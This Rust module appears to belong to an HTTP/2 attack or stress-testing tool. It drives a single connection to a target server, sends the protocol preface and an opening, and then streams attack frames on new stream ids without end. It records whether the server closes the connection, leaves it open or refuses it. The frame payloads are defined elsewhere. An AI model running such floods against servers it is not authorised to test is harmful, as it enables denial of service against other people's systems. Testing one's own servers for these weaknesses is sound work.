//! One connection of an attacker.

use std::time::Duration;

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    time::{Instant, timeout},
};

use super::{
    frames::{PREFACE, kind},
    kinds::Kind,
    target::Target,
};

/// How one connection of an attack ended.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Ended {
    /// The server closed it after this time.
    Closed(Duration),
    /// It was still open when the time was over.
    Open,
    /// It was not even accepted.
    Refused,
}

/// Attacks over one connection until the server closes it or `most` has passed.
pub async fn attack(target: &Target, attack: &Kind, most: Duration) -> Ended {
    let Ok(stream) = target.connect().await else { return Ended::Refused };
    let begun = Instant::now();
    let (mut read, mut write) = tokio::io::split(stream);
    let reading = async {
        let mut sink = vec![0; 64 * 1_024];
        while !matches!(read.read(&mut sink).await, Ok(0) | Err(_)) {}
    };
    let writing = async {
        let opening = [PREFACE, &super::frames::frame(kind::SETTINGS, 0, 0, &[]), &attack.opening()].concat();
        if write.write_all(&opening).await.is_err() {
            return;
        }
        // Stream 1 belongs to the opening.
        let mut stream = 3;
        loop {
            let (piece, next) = attack.piece(stream);
            stream = next;
            if write.write_all(&piece).await.is_err() || write.flush().await.is_err() {
                return;
            }
        }
    };
    let either = async {
        tokio::select! {
            () = reading => {}
            () = writing => {}
        }
    };
    match timeout(most, either).await {
        Ok(()) => Ended::Closed(begun.elapsed()),
        Err(_) => Ended::Open,
    }
}
